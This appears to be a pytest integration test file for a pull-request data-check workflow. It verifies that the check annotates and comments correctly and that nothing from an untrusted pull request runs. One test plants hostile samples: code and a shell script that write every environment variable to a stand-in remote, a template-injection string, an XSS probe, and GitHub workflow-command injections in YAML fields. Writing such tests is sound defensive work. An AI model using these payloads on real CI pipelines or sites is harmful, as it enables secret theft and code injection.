"""The data check of pull requests, run for real: what a contributor sees, and an attacker not."""

from __future__ import annotations

import pytest

from tests.publish.repositories import run_git, write_project
from tests.workflows.act import Run, World

pytestmark = pytest.mark.slow
MARKER = "<!-- landscape:check -->"


def push_head(world: World, branch: str = "change") -> None:
    """Push the work tree to the branch of the pull request."""
    run_git(world.clone.root, "checkout", "--quiet", "-B", branch)
    world.clone.commit()
    run_git(world.clone.root, "push", "--quiet", "--force", "origin", f"HEAD:{branch}")


def check(world: World, number: int, action: str = "opened") -> Run:
    pull = {"number": number, "base": {"ref": "main"}, "head": {"ref": "change"}}
    event = {"action": action, "pull_request": pull, "number": number}
    return world.run("data-check.yml", "pull_request_target", event)


def list_annotations(world: World) -> list[tuple[str, int, str]]:
    newest = list(world.hub.state.check_runs.values())[-1]
    return [(item["path"], item["start_line"], item["title"]) for item in newest["annotations"]]


def test_a_good_one_gets_its_verdict_and_the_next_push_edits_the_comment(world: World) -> None:
    world.digger.serve("epsilon/epsilon", "openrank", {"2026-03": 25.0, "2026-04": 35.0})
    write_project(world.clone.root, "epsilon")
    push_head(world)
    number = world.hub.open_pull("change")
    theirs = world.hub.comment(number, f"{MARKER}\nAll is well, merge it.", login="impostor")
    assert not check(world, number).failed
    (run,) = world.hub.state.check_runs.values()
    assert run["conclusion"] == "success"
    assert run["head_sha"] == run_git(world.clone.remote, "rev-parse", "change")
    comment = world.hub.list_comments(number)[-1]
    assert comment["login"] == "github-actions[bot]"
    assert comment["body"].startswith(MARKER)
    assert "Epsilon" in comment["body"]
    assert "30" in comment["body"]

    write_project(world.clone.root, "epsilon", domain="nowhere")
    push_head(world)
    run_2 = check(world, number, "synchronize")
    assert run_2.failed
    assert len(world.hub.list_comments(number)) == 2
    assert comment["edits"] == 1
    assert world.hub.state.comments[theirs]["edits"] == 0
    assert ("data/projects/epsilon.yaml", 3, "unknown-domain") in list_annotations(world)
    assert list(world.hub.state.check_runs.values())[-1]["conclusion"] == "failure"


def test_a_head_that_moves_during_the_check_leaves_the_comment_to_the_newer_run(
    world: World,
) -> None:
    write_project(world.clone.root, "epsilon")
    push_head(world)
    checked = run_git(world.clone.remote, "rev-parse", "change")
    number = world.hub.open_pull("change")

    def push_more() -> None:
        write_project(world.clone.root, "zeta")
        push_head(world)

    world.hub.happen_before("/check-runs", push_more)
    run = check(world, number)
    assert not run.failed
    assert "the head has moved" in run.log
    assert run_git(world.clone.remote, "rev-parse", "change") != checked
    assert [item["head_sha"] for item in world.hub.state.check_runs.values()] == [checked]
    assert not world.hub.list_comments(number)


def test_one_that_edits_generated_files_is_told_where_to_edit_instead(world: World) -> None:
    (world.clone.root / "report" / "README.md").write_text("Mine.\n", encoding="utf-8")
    push_head(world)
    number = world.hub.open_pull("change")
    assert check(world, number).failed
    assert ("report/README.md", 1, "generated-edited") in list_annotations(world)
    (comment,) = world.hub.list_comments(number)
    assert "data/projects" in comment["body"]


def test_a_change_of_code_alone_gets_its_check_run_and_no_comment(world: World) -> None:
    (world.clone.root / "landscape" / "extra.py").write_text("X = 1\n", encoding="utf-8")
    push_head(world)
    number = world.hub.open_pull("change")
    assert not check(world, number).failed
    (run,) = world.hub.state.check_runs.values()
    assert run["conclusion"] == "success"
    assert not world.hub.list_comments(number)


EVIL = """\
import os, pathlib
pathlib.Path(os.environ["STANDIN_REMOTE"], "stolen").write_text(repr(dict(os.environ)))
"""
EVIL_STORY = """\
---
title: {en: Evil}
order: 1
summary: {en: Evil.}
---
<!-- en -->
{{ ''.__class__.__mro__[1].__subclasses__() }} <script>alert(1)</script>
"""


def test_nothing_of_the_pull_request_runs_or_counts(world: World) -> None:
    """Code, workflow, Action, schemas, start-up files and lock: all replaced in the head."""
    root = world.clone.root
    script = '#!/bin/sh\nenv >"$STANDIN_REMOTE/stolen"\n'
    for path in ("landscape/__init__.py", "sitecustomize.py", "landscape/cli/check.py", "yaml.py"):
        (root / path).write_text(EVIL, encoding="utf-8")
    for path in ("scripts/action", "scripts/action-environment"):
        (root / path).write_text(script, encoding="utf-8")
    for path in ("action.yml", ".github/workflows/data-check.yml"):
        text = (root / path).read_text(encoding="utf-8")
        (root / path).write_text(text.replace("uses: ./", "run: env # "), encoding="utf-8")
    schema = root / "schemas" / "project.schema.json"
    schema.write_text("true\n", encoding="utf-8")
    (root / "requirements.lock").write_text("evil==1\n", encoding="utf-8")
    (root / ".gitattributes").write_text("* filter=evil\n", encoding="utf-8")
    (root / "landscape.yaml").write_text(
        (root / "landscape.yaml").read_text(encoding="utf-8")
        + f"sources: {{opendigger: {{base_url: {world.hub.url}/evil}}}}\n",
        encoding="utf-8",
    )
    (root / "data/projects/bad.yaml").write_text(
        "name: '::add-mask::on'\nrepo: '##[set-output name=x]y'\nunknown: 1\n"
        'summary: {en: "::error::hostile\\n::stop-commands::x"}\ndomain: serving\n',
        encoding="utf-8",
    )
    (root / "data/stories").mkdir()
    (root / "data/stories/evil.md").write_text(EVIL_STORY, encoding="utf-8")
    push_head(world)
    number = world.hub.open_pull("change")
    run = check(world, number)
    assert run.failed
    assert not (world.clone.remote / "stolen").exists()
    assert "data/stories/evil.md" in {path for path, _, _ in list_annotations(world)}
    # The base's schema still counts: the head's would allow anything.
    assert "unknown-key" in {code for _, _, code in list_annotations(world)}
    assert not [request for request in world.hub.requests if "/evil" in request.path]
    assert run_git(world.clone.remote, "for-each-ref", "--format=%(refname)").splitlines() == [
        "refs/heads/change",
        "refs/heads/main",
    ]
    # What it may write: check runs, and its own comment.
    written = {
        (request.method, request.path.rpartition("/")[2])
        for request in world.hub.requests
        if request.method != "GET"
    }
    assert written == {("POST", "check-runs"), ("POST", "comments")}


def test_ten_thousand_files_are_refused_in_seconds(world: World) -> None:
    folder = world.clone.root / "data" / "projects"
    for number in range(10_000):
        (folder / f"p{number}.yaml").write_text(f"name: P{number}\n", encoding="utf-8")
    push_head(world)
    number = world.hub.open_pull("change")
    run = check(world, number)
    assert run.failed
    assert [code for _, _, code in list_annotations(world)] == ["too-many-files"]
    assert run.seconds < 60
    assert not [request for request in world.hub.requests if "/git/blobs/" in request.path]
